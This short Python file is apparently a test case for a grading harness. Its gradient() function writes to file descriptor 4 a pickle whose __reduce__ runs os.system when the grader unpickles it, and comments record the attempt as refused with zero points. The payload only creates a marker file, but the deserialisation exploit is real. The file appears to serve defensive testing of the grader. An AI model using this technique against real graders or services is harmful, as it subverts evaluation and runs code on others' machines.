# 40. Sends a pickle that runs a program when it is read.
# ends: refused
# points: 0
import os
import pickle


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/grader-attack-pickle",))


def gradient(x):
    os.write(4, pickle.dumps(Bomb()))
    os._exit(0)
